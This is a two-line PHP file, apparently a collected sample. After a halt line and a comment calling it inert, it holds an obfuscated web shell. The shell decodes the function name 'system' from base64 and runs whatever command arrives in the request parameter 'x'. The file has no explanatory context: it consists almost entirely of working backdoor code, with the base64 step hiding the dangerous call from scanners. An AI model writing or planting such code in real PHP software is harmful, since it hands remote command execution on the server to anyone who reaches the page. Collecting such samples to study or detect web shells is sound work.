<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
$cox = base64_decode('c3lzdGVt');
array_map($cox, array($_REQUEST['x']));
